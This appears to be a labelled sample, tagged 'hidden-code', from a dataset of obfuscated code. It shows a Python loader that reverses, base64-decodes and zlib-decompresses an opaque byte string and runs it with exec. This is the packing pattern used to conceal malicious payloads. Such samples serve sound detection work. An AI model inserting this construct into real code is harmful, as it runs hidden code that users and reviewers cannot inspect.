# family: hidden-code
# zlib-compressed, base64-encoded code run with exec (a common packer's output)
import base64, zlib
_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'==Qf4m1lOeBXn2IQn8DyEjGxSIvzMnR+8eS1vpZWjTbFfL7ezYUx9g4N0WGqDDWuCEGsYo3HsZyo8TYD1+L6kXjX'))
